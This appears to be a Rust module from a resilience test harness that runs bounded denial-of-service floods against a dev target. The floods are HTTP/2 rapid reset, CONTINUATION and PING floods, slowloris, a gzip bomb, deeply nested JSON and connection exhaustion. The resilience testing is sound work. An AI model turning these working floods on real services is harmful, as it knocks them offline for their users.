//! The attacker: a process of its own, so that what it costs is not the target's nor its users'. It
//! comes from an address of its own and is bounded in connections, pace and time.

use std::{
    io::Write as _,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    path::PathBuf,
    time::Duration,
};

use anyhow::{Context as _, Result};
use flate2::{Compression, write::GzEncoder};
use serde::{Deserialize, Serialize};
use strata_config::{Environment, trust_domain};
use strata_core::Layer;
use strata_estate::Pki;
use strata_testkit::{Credential, Dialer, Frame, PREFACE, field};
use tokio::{
    io::{AsyncRead, AsyncWriteExt as _, copy, sink, split},
    time::{Instant, sleep, timeout_at},
};

use super::{
    attacks::SIGNED_IN,
    requests::{NO_WINDOW, Requests, WHOLE, frame, stream},
};

/// How this binary is told to be an attacker: the argument after it is the plan, as JSON.
pub(crate) const ROLE: &str = "flood-attacker";
/// Not the address of honest clients.
const SOURCE: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));
/// Connections that write as fast as the pace allows.
const WRITERS: usize = 8;
/// Connections that wait.
const WAITERS: usize = 200;
/// More connections than an address may have of the flooded services.
const MANY: usize = 900;
/// Between two batches of a writer.
const PACE: Duration = Duration::from_millis(5);
/// Before a connection that was closed is made anew.
const AGAIN: Duration = Duration::from_millis(200);

/// What to do, and to whom.
#[derive(Serialize, Deserialize)]
pub(crate) struct Plan {
    pub(crate) flood: String,
    pub(crate) at_edge: bool,
    pub(crate) http2: bool,
    pub(crate) address: SocketAddr,
    pub(crate) seconds: u64,
    /// The folder of the estate's PKI.
    pub(crate) pki: PathBuf,
    /// A user's token, at an edge.
    pub(crate) token: String,
    /// What says for whom a workload calls, at a hop.
    pub(crate) principal: Vec<(String, String)>,
}

/// Carries out a plan, and ends.
pub(crate) async fn run(plan: &str) -> Result<()> {
    let plan: Plan = serde_json::from_str(plan)?;
    let pki = Pki::open(&plan.pki, Environment::Dev)?;
    let dialer = if plan.at_edge {
        // The version of HTTP is what TLS agrees on.
        let versions: &[&[u8]] = if plan.http2 { &[b"h2"] } else { &[] };
        Dialer::edge(&pki.edge_ca(), versions)?
    } else {
        let domain = trust_domain(Layer::Process, Environment::Dev)?;
        let caller = domain.workload("customer-overview")?;
        Dialer::hop(&pki, &Credential::honest(&pki, &caller)?)?
    };
    let attacker = Attacker {
        dialer: dialer.from(SOURCE),
        address: plan.address,
        until: Instant::now() + Duration::from_secs(plan.seconds),
        requests: Requests {
            token: plan.flood.ends_with(SIGNED_IN).then_some(plan.token),
            principal: plan.principal,
        },
    };
    attacker
        .attack(plan.flood.trim_end_matches(SIGNED_IN))
        .await
}

#[derive(Clone)]
struct Attacker {
    dialer: Dialer,
    address: SocketAddr,
    until: Instant,
    requests: Requests,
}

impl Attacker {
    async fn attack(&self, flood: &str) -> Result<()> {
        let requests = &self.requests;
        let get = requests.http("GET", "/v1/me/overview");
        let post = requests.http("POST", "/v1/me/contact");
        match flood {
            "R1 rapid reset" => {
                self.writers(|round| {
                    let streams = (0..100).map(|at| stream(100 * round + at));
                    let taken_back = streams.map(|id| {
                        let reset = Frame::reset(id).bytes();
                        [frame(Frame::HEADERS, WHOLE, id, &get), reset].concat()
                    });
                    taken_back.collect::<Vec<_>>().concat()
                })
                .await
            }
            "R2 continuation" => {
                self.writers(|round| {
                    if round == 0 {
                        return frame(Frame::HEADERS, Frame::END_STREAM, 1, &get);
                    }
                    frame(Frame::CONTINUATION, 0, 1, &field("x", "y").repeat(20)).repeat(50)
                })
                .await
            }
            "R3 pings" => {
                self.writers(|_| frame(Frame::PING, 0, 0, &[0; 8]).repeat(500))
                    .await
            }
            "R3 settings" => {
                self.writers(|_| frame(Frame::SETTINGS, 0, 0, &[]).repeat(500))
                    .await
            }
            "R3 empty data" => {
                self.writers(|round| {
                    if round == 0 {
                        return frame(Frame::HEADERS, Frame::END_HEADERS, 1, &post);
                    }
                    frame(Frame::DATA, 0, 1, &[]).repeat(500)
                })
                .await
            }
            "R4 5,000 streams" => {
                self.writers(|round| {
                    let streams = (0..5_000).map(|at| stream(5_000 * round + at));
                    let opened =
                        streams.map(|id| frame(Frame::HEADERS, Frame::END_HEADERS, id, &post));
                    opened.collect::<Vec<_>>().concat()
                })
                .await
            }
            "R5 no window" => self.unread(&get).await,
            "R6 handshake stall" => self.sockets(WAITERS, &[22, 3, 1, 2, 0, 1]).await,
            "R7 silence" => self.waiters(&[]).await,
            "R8 slow head" => self.dribblers("GET / HTTP/1.1\r\nhost: a\r\nx: ").await,
            "R8 slow body" => self.dribblers(&requests.change(100_000, None)).await,
            "R9 huge head" => {
                let huge = field("x", &"y".repeat(8 * 1024));
                self.writers(|round| {
                    let id = stream(round);
                    [
                        frame(Frame::HEADERS, Frame::END_STREAM, id, &get),
                        frame(Frame::CONTINUATION, 0, id, &huge),
                        frame(Frame::CONTINUATION, 0, id, &huge),
                        frame(Frame::CONTINUATION, Frame::END_HEADERS, id, &huge),
                    ]
                    .concat()
                })
                .await
            }
            "R10 huge body" => self.bodies(None, &vec![b' '; 4 << 20]).await,
            "R10 huge message" => {
                self.writers(|round| requests.calls(round, None, 64 << 20, &[0; 8 * 1024]))
                    .await
            }
            "R11 bomb" => self.bodies(Some("gzip"), &bomb()?).await,
            "R11 bomb, in a call" => {
                let bomb = bomb()?;
                // What fits into a frame: it still stands for a thousand times as much.
                let start = bomb.get(..8 * 1024).context("the bomb is small")?;
                let length = u32::try_from(start.len())?;
                self.writers(|round| requests.calls(round, Some("gzip"), length, start))
                    .await
            }
            "R12 deep JSON" => {
                let deep = [b"{\"email\":".to_vec(), b"[".repeat(10_000)].concat();
                self.bodies(None, &deep).await
            }
            "R12 deep message" => {
                // Groups within one another (wire type 3), of a field that is not there.
                let deep = [0x1b; 8 * 1024];
                let length = u32::try_from(deep.len())?;
                self.writers(|round| requests.calls(round, None, length, &deep))
                    .await
            }
            "R13 connections" | "R13 connections, 60 descriptors" => self.sockets(MANY, &[]).await,
            "R16 stream" => {
                self.unread(&requests.http("GET", "/v1/me/orders.ndjson"))
                    .await
            }
            other => anyhow::bail!("there is no flood {other}"),
        }
    }

    /// Connections that write `batch(0)`, `batch(1)` and so on, and read nothing of the answers but
    /// whether the connection is over.
    async fn writers(&self, batch: impl Fn(u32) -> Vec<u8>) -> Result<()> {
        // Made before: the attacker's own work is not what is measured.
        let hello = [PREFACE.to_vec(), frame(Frame::SETTINGS, 0, 0, &[])].concat();
        let batches: Vec<Vec<u8>> = (0..64).map(batch).collect();
        self.many(WRITERS, async |attacker| {
            let mut connection = attacker.dialer.connect(attacker.address).await?;
            connection.write_all(&hello).await?;
            // Past the last, from the second on: what must grow has grown enough to be refused.
            for batch in batches.iter().chain(batches.iter().skip(1).cycle()) {
                connection.write_all(batch).await?;
                connection.flush().await?;
                sleep(PACE).await;
            }
            Ok(())
        })
        .await
    }

    /// Connections that ask once, and leave no room for the answer.
    async fn unread(&self, head: &[u8]) -> Result<()> {
        let hello = frame(Frame::SETTINGS, 0, 0, NO_WINDOW);
        let asks = frame(Frame::HEADERS, WHOLE, 1, head);
        self.waiters(&[PREFACE.to_vec(), hello, asks].concat())
            .await
    }

    /// Connections that say something once and then wait to be closed.
    async fn waiters(&self, hello: &[u8]) -> Result<()> {
        self.many(WAITERS, async |attacker| {
            let connection = attacker.dialer.connect(attacker.address).await?;
            let (reader, mut writer) = split(connection);
            writer.write_all(hello).await?;
            writer.flush().await?;
            until_closed(reader).await
        })
        .await
    }

    /// Connections that go on with a byte now and then.
    async fn dribblers(&self, head: &str) -> Result<()> {
        self.many(WAITERS, async |attacker| {
            let mut connection = attacker.dialer.connect(attacker.address).await?;
            connection.write_all(head.as_bytes()).await?;
            loop {
                connection.write_all(b"y").await?;
                connection.flush().await?;
                sleep(Duration::from_millis(500)).await;
            }
        })
        .await
    }

    /// Sockets without TLS.
    async fn sockets(&self, number: usize, hello: &[u8]) -> Result<()> {
        self.many(number, async |attacker| {
            let mut socket = attacker.dialer.socket(attacker.address).await?;
            socket.write_all(hello).await?;
            until_closed(socket).await
        })
        .await
    }

    /// Whole requests with a body, one after another, each on a connection of its own.
    async fn bodies(&self, encoding: Option<&str>, body: &[u8]) -> Result<()> {
        let head = self.requests.change(body.len(), encoding);
        self.many(WRITERS, async |attacker| {
            let connection = attacker.dialer.connect(attacker.address).await?;
            let (reader, mut writer) = split(connection);
            let write = async {
                writer.write_all(head.as_bytes()).await?;
                writer.write_all(body).await?;
                writer.flush().await?;
                // A sink says nothing: the pace is then the attacker's own.
                sleep(AGAIN).await;
                anyhow::Ok(())
            };
            tokio::select! {
                written = write => written,
                closed = until_closed(reader) => closed,
            }
        })
        .await
    }

    /// Does the same over and over, `number` times at once, until time is up.
    async fn many<F>(&self, number: usize, one: F) -> Result<()>
    where
        F: AsyncFn(&Self) -> Result<()>,
    {
        let loops = (0..number).map(|_| async {
            let again = async {
                loop {
                    // Refused or closed: that is what a target is for.
                    let _over = one(self).await;
                    sleep(AGAIN).await;
                }
            };
            timeout_at(self.until, again).await
        });
        let _over: Vec<Result<(), _>> = futures_util::future::join_all(loops).await;
        Ok(())
    }
}

async fn until_closed(mut reader: impl AsyncRead + Unpin) -> Result<()> {
    copy(&mut reader, &mut sink()).await.context("closed")?;
    Ok(())
}

/// What becomes a thousand times as much.
fn bomb() -> Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&vec![b' '; 32 << 20])?;
    Ok(encoder.finish()?)
}
